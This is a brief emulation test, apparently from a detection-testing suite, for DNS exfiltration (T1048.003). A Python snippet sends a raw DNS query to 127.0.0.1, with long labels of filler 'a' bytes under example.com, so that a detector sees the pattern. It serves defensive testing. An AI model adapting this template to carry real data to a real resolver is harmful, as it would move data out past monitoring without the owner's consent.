# title: data leave in names
# technique: T1048.003
# expects: long-name-asked
# needs: python3
python3 - <<'P'
import socket
labels = b"".join(bytes([60]) + b"a" * 60 for _ in range(3)) + b"\x07example\x03com\x00"
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    one.sendto(query, ("127.0.0.1", 53))
P
